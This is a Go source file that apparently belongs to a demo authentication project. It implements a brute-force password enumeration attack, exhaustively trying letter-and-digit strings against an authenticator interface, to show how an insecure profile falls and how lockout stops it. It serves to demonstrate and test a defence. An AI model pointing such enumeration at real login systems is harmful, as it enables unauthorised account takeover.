// Package bruteforce runs a password enumeration attack against the
// authentication core. It shows what the insecure profile allows and how
// the lockout stops the same attack under the secure profile.
package bruteforce

import (
	"context"
	"time"

	"github.com/dmitrijs2005/shopauth/internal/server/models"
)

// Alphabet is the candidate character set: ASCII letters, then digits.
const Alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

type Authenticator interface {
	Authenticate(ctx context.Context, email, password string) (*models.Account, error)
}

type Result struct {
	Cracked  bool
	Password string
	Attempts int
	Elapsed  time.Duration
}

// Candidates calls yield with every string over alphabet of length 0 to
// maxLen, shortest first. It stops early when yield returns false.
func Candidates(alphabet string, maxLen int, yield func(string) bool) {
	symbols := []rune(alphabet)
	for length := 0; length <= maxLen; length++ {
		idx := make([]int, length)
		buf := make([]rune, length)
		for {
			for i, j := range idx {
				buf[i] = symbols[j]
			}
			if !yield(string(buf)) {
				return
			}

			// odometer increment, rightmost position fastest
			pos := length - 1
			for pos >= 0 {
				idx[pos]++
				if idx[pos] < len(symbols) {
					break
				}
				idx[pos] = 0
				pos--
			}
			if pos < 0 {
				break
			}
		}
	}
}

// Attack tries candidates against email until one is granted, the space is
// exhausted, maxAttempts is reached (0 means no limit) or ctx is done.
func Attack(ctx context.Context, auth Authenticator, email string, maxLen, maxAttempts int, progress func(attempt int, candidate string)) (*Result, error) {
	res := &Result{}
	start := time.Now()

	var attackErr error
	Candidates(Alphabet, maxLen, func(candidate string) bool {
		if maxAttempts > 0 && res.Attempts >= maxAttempts {
			return false
		}
		if err := ctx.Err(); err != nil {
			attackErr = err
			return false
		}

		res.Attempts++
		if progress != nil {
			progress(res.Attempts, candidate)
		}

		account, err := auth.Authenticate(ctx, email, candidate)
		if err != nil {
			attackErr = err
			return false
		}
		if account != nil {
			res.Cracked = true
			res.Password = candidate
			return false
		}
		return true
	})

	res.Elapsed = time.Since(start)
	return res, attackErr
}
